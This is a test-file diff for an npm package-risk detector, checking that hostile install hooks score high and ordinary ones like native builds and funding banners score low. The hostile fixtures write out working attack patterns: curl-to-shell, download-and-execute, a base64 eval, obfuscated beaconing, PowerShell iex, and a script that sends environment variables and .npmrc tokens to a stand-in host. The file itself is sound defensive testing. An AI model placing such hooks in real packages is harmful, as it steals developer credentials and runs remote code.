@@ -1,0 +1,318 @@
+import { describe, expect, it } from 'vitest';
+import installScripts from '../../src/detectors/install-scripts/index.js';
+import type { DetectorResult } from '../../src/detectors/types.js';
+import { levelForScore, scoreFindings } from '../../src/scoring/levels.js';
+import { factsFromFixture, type FixtureFile, type PackageFixture } from '../support/package-fixture.js';
+
+const publisher = { name: 'someone', email: 'someone@example.com' };
+
+function fixture(name: string, manifest: Record<string, unknown>, files: Record<string, FixtureFile> = {}): PackageFixture {
+  return {
+    name,
+    publisher,
+    versions: [{ version: '1.0.0', publishedAt: '2024-01-01T00:00:00.000Z', manifest, files: { 'README.md': `# ${name}\n`, ...files } }],
+  };
+}
+
+function run(f: PackageFixture): DetectorResult & { score: number; level: string; ids: string[] } {
+  const result = installScripts.detect({ facts: factsFromFixture(f), options: installScripts.meta.options.parse({}), now: new Date('2024-06-01') });
+  const score = scoreFindings(result.findings.map((x) => x.weight));
+  return { ...result, score, level: levelForScore(score), ids: result.findings.map((x) => x.messageId) };
+}
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+
+// An obfuscator.io-shaped file: string table of escaped strings, _0x identifiers, rotation, lookups.
+const obfuscated = `var _0x4f2a=['\\x68\\x74\\x74\\x70\\x73','\\x67\\x65\\x74','\\x68\\x6f\\x73\\x74\\x6e\\x61\\x6d\\x65','\\x6f\\x73'];(function(_0x1b2c3d,_0x5e6f7a){var _0x2d1e4f=function(_0x3a4b5c){while(--_0x3a4b5c){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x2d1e4f(++_0x5e6f7a);}(_0x4f2a,0x1a3));var _0x3c4d=function(_0x6a7b8c,_0x9d0e1f){_0x6a7b8c=_0x6a7b8c-0x0;var _0x7f8a9b=_0x4f2a[_0x6a7b8c];return _0x7f8a9b;};var _0x5b6c7d=require(_0x3c4d('0x0'));var _0x8e9f0a=require(_0x3c4d('0x3'));_0x5b6c7d[_0x3c4d('0x1')]('\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f'+_0x8e9f0a[_0x3c4d('0x2')]());`;
+
+const hostile: [string, PackageFixture][] = [
+  ['curl piped into sh', fixture('curl-sh', { scripts: { postinstall: 'curl -fsSL https://get.example.dev/setup.sh | sh' } })],
+  [
+    'wget to /tmp, chmod, execute',
+    fixture('wget-tmp', { scripts: { preinstall: 'wget -q http://203.0.113.7/x -O /tmp/.cache-x && chmod +x /tmp/.cache-x && /tmp/.cache-x' } }),
+  ],
+  [
+    'base64 payload through node -e',
+    fixture('node-e-b64', {
+      scripts: { postinstall: `node -e "eval(Buffer.from('${b64("require('child_process').exec('id')")}','base64').toString())"` },
+    }),
+  ],
+  [
+    'env and .npmrc exfiltration from the target file',
+    fixture('env-exfil', { scripts: { postinstall: 'node lib/telemetry.js' } }, {
+      'lib/telemetry.js': `const https = require('https');
+const fs = require('fs');
+const os = require('os');
+const body = JSON.stringify({ env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') });
+const req = https.request({ hostname: 'collector.example', method: 'POST', path: '/c' });
+req.write(body);
+req.end();
+`,
+    }),
+  ],
+  ['script target missing from the tarball', fixture('missing-target', { scripts: { postinstall: 'node dist/setup.js' } }, { 'index.js': 'module.exports = 1;\n' })],
+  ['obfuscated target file', fixture('obfuscated', { scripts: { postinstall: 'node index.js' } }, { 'index.js': obfuscated })],
+  [
+    'dependency-confusion probe sending hostname and user',
+    fixture('internal-config-lib', {
+      scripts: {
+        preinstall: `node -e "const os=require('os');require('https').get('https://x.oast.example/?h='+os.hostname()+'&u='+os.userInfo().username)"`,
+      },
+    }),
+  ],
+  [
+    'target file runs a shell pipe through aliased child_process and built strings',
+    fixture('aliased-pipe', { scripts: { install: 'node scripts/i.js' } }, {
+      'scripts/i.js': `const m = 'child' + '_process';\nconst { execSync: go } = require(m);\nconst host = 'dl.example.net';\ngo(\`curl -s https://\${host}/a | bash\`);\n`,
+    }),
+  ],
+  [
+    'PowerShell download into Invoke-Expression',
+    fixture('ps-iex', { scripts: { postinstall: `powershell -NoProfile -c "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.4/p.ps1')"` } }),
+  ],
+  [
+    'unparsable file falls back to token search',
+    fixture('broken-js', { scripts: { postinstall: 'node x.js' } }, { 'x.js': `const a = ;\neval(atob('${b64('console.log(1)')}'))\n` }),
+  ],
+  [
+    'bash script target downloading to a temp dir and running it',
+    fixture('sh-target', { scripts: { postinstall: 'sh ./setup.sh' } }, {
+      'setup.sh': '#!/bin/sh\nset -e\ncurl -sL https://example.net/bin -o $TMPDIR/agent\nchmod +x $TMPDIR/agent\n$TMPDIR/agent &\n',
+    }),
+  ],
+];
+
+const esbuildInstaller = `"use strict";
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const zlib = require("zlib");
+const https = require("https");
+const child_process = require("child_process");
+const versionFromPackageJSON = require(path.join(__dirname, "package.json")).version;
+const knownPackages = {
+  "darwin arm64 LE": "@fastbuild/darwin-arm64",
+  "linux x64 LE": "@fastbuild/linux-x64",
+  "win32 x64 LE": "@fastbuild/win32-x64",
+};
+function pkgForPlatform() {
+  const key = \`\${process.platform} \${os.arch()} \${os.endianness()}\`;
+  const pkg = knownPackages[key];
+  if (!pkg) throw new Error("Unsupported platform: " + key);
+  return pkg;
+}
+function fetch(url) {
+  return new Promise((resolve, reject) => {
+    https.get(url, (res) => {
+      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location) return fetch(res.headers.location).then(resolve, reject);
+      if (res.statusCode !== 200) return reject(new Error("Server responded with " + res.statusCode));
+      const chunks = [];
+      res.on("data", (chunk) => chunks.push(chunk));
+      res.on("end", () => resolve(Buffer.concat(chunks)));
+    }).on("error", reject);
+  });
+}
+function extractFileFromTarGzip(buffer, subpath) {
+  buffer = zlib.unzipSync(buffer);
+  let offset = 0;
+  while (offset < buffer.length) {
+    const name = buffer.toString("utf8", offset, offset + 100).replace(/\\0.*/g, "");
+    const size = parseInt(buffer.toString("utf8", offset + 124, offset + 136).replace(/\\0.*/g, ""), 8);
+    offset += 512;
+    if (name === "package/" + subpath) return buffer.subarray(offset, offset + size);
+    offset += (size + 511) & ~511;
+  }
+  throw new Error("Could not find " + subpath);
+}
+function installUsingNPM(pkg, subpath, binPath) {
+  const env = { ...process.env, npm_config_global: undefined };
+  const installDir = path.join(os.tmpdir(), "fastbuild-" + Math.random().toString(36).slice(2));
+  fs.mkdirSync(installDir);
+  fs.writeFileSync(path.join(installDir, "package.json"), "{}");
+  child_process.execSync(\`npm install --loglevel=error --prefer-offline --no-audit --progress=false \${pkg}@\${versionFromPackageJSON}\`, { cwd: installDir, stdio: "pipe", env });
+  fs.renameSync(path.join(installDir, "node_modules", pkg, subpath), binPath);
+}
+async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
+  const registry = process.env.npm_config_registry || "https://registry.npmjs.org";
+  const url = \`\${registry}/\${pkg}/-/\${pkg.replace("@fastbuild/", "")}-\${versionFromPackageJSON}.tgz\`;
+  fs.writeFileSync(binPath, extractFileFromTarGzip(await fetch(url), subpath));
+  fs.chmodSync(binPath, 0o755);
+}
+function validateBinaryVersion(binPath) {
+  const stdout = child_process.execFileSync(binPath, ["--version"]).toString().trim();
+  if (stdout !== versionFromPackageJSON) throw new Error(\`Expected \${versionFromPackageJSON} but got \${stdout}\`);
+}
+async function main() {
+  const pkg = pkgForPlatform();
+  const binPath = path.join(__dirname, "bin", "fastbuild");
+  try {
+    installUsingNPM(pkg, "bin/fastbuild", binPath);
+  } catch (e) {
+    await downloadDirectlyFromNPM(pkg, "bin/fastbuild", binPath);
+  }
+  validateBinaryVersion(binPath);
+}
+main().catch((e) => { console.error(e); process.exit(1); });
+`;
+
+const fundingBanner = `var env = process.env;
+var ADBLOCK = is(env.ADBLOCK);
+var COLOR = is(env.npm_config_color);
+var DISABLE_OPENCOLLECTIVE = is(env.DISABLE_OPENCOLLECTIVE);
+var SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1;
+var OPEN_SOURCE_CONTRIBUTOR = is(env.OPEN_SOURCE_CONTRIBUTOR);
+var BANNER = '\\u001B[96mThank you for using corelib (\\u001B[94m https://github.com/example/corelib \\u001B[96m) for polyfilling JavaScript standard library!\\u001B[0m\\n\\n' +
+  '\\u001B[96mThe project needs your help! Please consider supporting corelib:\\u001B[0m\\n' +
+  '\\u001B[96m>\\u001B[94m https://opencollective.com/corelib \\u001B[0m\\n';
+function is(it) { return !!it && it !== '0' && it !== 'false'; }
+function isBannerRequired() {
+  if (ADBLOCK || DISABLE_OPENCOLLECTIVE || SILENT || OPEN_SOURCE_CONTRIBUTOR) return false;
+  var fs = require('fs');
+  var os = require('os');
+  var path = require('path');
+  var file = path.join(os.tmpdir(), 'corelib-banners');
+  var banners = [];
+  try {
+    var DELTA = Date.now() - fs.statSync(file).mtime;
+    if (DELTA >= 0 && DELTA < 1000 * 60 * 60 * 24) {
+      banners = JSON.parse(fs.readFileSync(file, 'utf8'));
+      if (banners.indexOf(BANNER) !== -1) return false;
+    }
+  } catch (error) { banners = []; }
+  try {
+    banners.push(BANNER);
+    fs.writeFileSync(file, JSON.stringify(banners), 'utf8');
+  } catch (error) { /* empty */ }
+  return true;
+}
+function showBanner() {
+  console.log(COLOR ? BANNER : BANNER.replace(/\\u001B\\[\\d+m/g, ''));
+}
+if (isBannerRequired()) showBanner();
+`;
+
+const legitimate: [string, PackageFixture][] = [
+  [
+    'implicit node-gyp rebuild from binding.gyp',
+    fixture('native-addon', { main: 'index.js', gypfile: true }, {
+      'binding.gyp': "{ 'targets': [ { 'target_name': 'addon', 'sources': [ 'src/addon.cc' ] } ] }\n",
+      'src/addon.cc': '#include <node.h>\n',
+      'index.js': "module.exports = require('./build/Release/addon.node');\n",
+    }),
+  ],
+  [
+    'prebuild-install with node-gyp fallback',
+    fixture('prebuilt-addon', { scripts: { install: 'prebuild-install || node-gyp rebuild' }, dependencies: { 'prebuild-install': '^7.1.1', 'node-addon-api': '^7.0.0' } }, {
+      'binding.gyp': "{ 'targets': [ { 'target_name': 'x' } ] }\n",
+      'index.js': "module.exports = require('node-gyp-build')(__dirname);\n",
+    }),
+  ],
+  ['esbuild-like binary installer', fixture('fastbuild', { scripts: { postinstall: 'node install.js' }, optionalDependencies: { '@fastbuild/linux-x64': '1.0.0' } }, { 'install.js': esbuildInstaller, 'lib/main.js': 'module.exports = {};\n' })],
+  [
+    'core-js-like funding message',
+    fixture('corelib', { scripts: { postinstall: `node -e "try{require('./postinstall')}catch(e){}"` } }, { 'postinstall.js': fundingBanner, 'index.js': 'module.exports = {};\n' }),
+  ],
+  ['husky-like prepare (not run on registry installs)', fixture('hooks-tool', { scripts: { prepare: 'husky install', test: 'node test.js' } }, { 'index.js': 'module.exports = {};\n' })],
+  ['no scripts at all', fixture('is-thing', { main: 'index.js' }, { 'index.js': "module.exports = (x) => typeof x === 'number';\n" })],
+  [
+    'puppeteer-like browser download from a vendor host',
+    fixture('headless-kit', { scripts: { postinstall: 'node install.mjs' } }, {
+      'install.mjs': `import https from 'node:https';
+import { createWriteStream, mkdirSync } from 'node:fs';
+import { join } from 'node:path';
+const skip = process.env.HEADLESS_SKIP_DOWNLOAD;
+const cacheDir = process.env.HEADLESS_CACHE_DIR ?? join(process.cwd(), '.cache');
+if (!skip) {
+  mkdirSync(cacheDir, { recursive: true });
+  const url = 'https://storage.example-cdn.com/builds/' + process.platform + '/browser.zip';
+  https.get(url, (res) => res.pipe(createWriteStream(join(cacheDir, 'browser.zip'))));
+}
+`,
+    }),
+  ],
+  [
+    'a postinstall that prints a message with echo',
+    fixture('echo-thanks', { scripts: { postinstall: 'echo "thanks for installing, see https://example.org/docs"' } }, { 'index.js': 'module.exports = 1;\n' }),
+  ],
+];
+
+describe('install-scripts: hostile install hooks reach high or critical', () => {
+  it.each(hostile)('%s', (_label, f) => {
+    const r = run(f);
+    expect(r.score, JSON.stringify(r.findings, null, 1)).toBeGreaterThanOrEqual(70);
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('names what each hostile hook does, with evidence', () => {
+    const ids = (i: number) => run(hostile[i]![1]).ids;
+    expect(ids(0)).toContain('pipeToShell');
+    expect(ids(1)).toContain('downloadExecute');
+    expect(ids(2)).toContain('encodedPayload');
+    expect(ids(3)).toContain('exfiltration');
+    expect(ids(4)).toContain('missingTarget');
+    expect(ids(5)).toContain('obfuscatedTarget');
+    expect(ids(6)).toContain('hostBeacon');
+    expect(ids(7)).toContain('pipeToShell');
+    expect(ids(8)).toContain('pipeToShell');
+    expect(ids(10)).toContain('downloadExecute');
+    const exfil = run(hostile[3]![1]).findings.find((x) => x.messageId === 'exfiltration')!;
+    expect(exfil.evidence.file).toBe('lib/telemetry.js');
+    expect(exfil.evidence.line).toBe(4);
+    const aliased = run(hostile[7]![1]).findings.find((x) => x.messageId === 'pipeToShell')!;
+    expect(aliased.evidence).toMatchObject({ file: 'scripts/i.js', line: 4 });
+  });
+
+  it('says when a file was read by token search instead of parsing', () => {
+    const r = run(hostile[9]![1]);
+    const payload = r.findings.find((x) => x.messageId === 'encodedPayload')!;
+    expect(payload.data?.what).toMatch(/token search: parse failed/);
+    expect(r.unavailable?.some((u) => /parse failed/.test(u.reason))).toBe(true);
+  });
+
+  it('a guarded missing target weighs less than an unguarded one', () => {
+    const guarded = run(fixture('g', { scripts: { postinstall: 'node dist/setup.js || true' } }));
+    expect(guarded.findings.find((x) => x.messageId === 'missingTarget')?.weight).toBeLessThan(40);
+  });
+});
+
+describe('install-scripts: legitimate install hooks stay low or none', () => {
+  it.each(legitimate)('%s', (_label, f) => {
+    const r = run(f);
+    expect(r.score, JSON.stringify(r.findings, null, 1)).toBeLessThan(10);
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('still reports the implicit node-gyp build and the installer hook, at no or little weight', () => {
+    const gyp = run(legitimate[0]![1]);
+    expect(gyp.findings).toEqual([expect.objectContaining({ messageId: 'nativeBuild', weight: 0, data: expect.objectContaining({ command: 'node-gyp rebuild' }) })]);
+    const esbuild = run(legitimate[2]![1]);
+    expect(esbuild.ids).toContain('lifecycleScript');
+    expect(esbuild.ids).toContain('network');
+  });
+
+  it('no scripts and prepare-only packages have no findings', () => {
+    expect(run(legitimate[4]![1]).findings).toEqual([]);
+    expect(run(legitimate[5]![1]).findings).toEqual([]);
+  });
+});
+
+describe('install-scripts: missing facts', () => {
+  it('reports unavailable, not clean, when no manifest is known', () => {
+    const facts = factsFromFixture(hostile[0]![1]);
+    const r = installScripts.detect({ facts: { ...facts, manifest: undefined, versionMeta: undefined }, options: installScripts.meta.options.parse({}), now: new Date() });
+    expect(r.findings).toEqual([]);
+    expect(r.unavailable?.[0]?.signal).toBe('install-scripts');
+  });
+
+  it('judges the packument scripts when the tarball was not read, and says the targets were not checked', () => {
+    const facts = factsFromFixture(hostile[4]![1]);
+    const r = installScripts.detect({ facts: { ...facts, manifest: undefined, files: undefined }, options: installScripts.meta.options.parse({}), now: new Date() });
+    expect(r.findings.map((f) => f.messageId)).not.toContain('missingTarget');
+    expect(r.unavailable?.some((u) => u.signal === 'install-script targets')).toBe(true);
+  });
+
+  it('strips control characters from excerpts', () => {
+    const r = run(fixture('ansi', { scripts: { postinstall: 'curl https://x.example/\u001b[31mred | sh' } }));
+    for (const f of r.findings) expect(JSON.stringify(f.evidence)).not.toMatch(/\u001b/);
+  });
+});
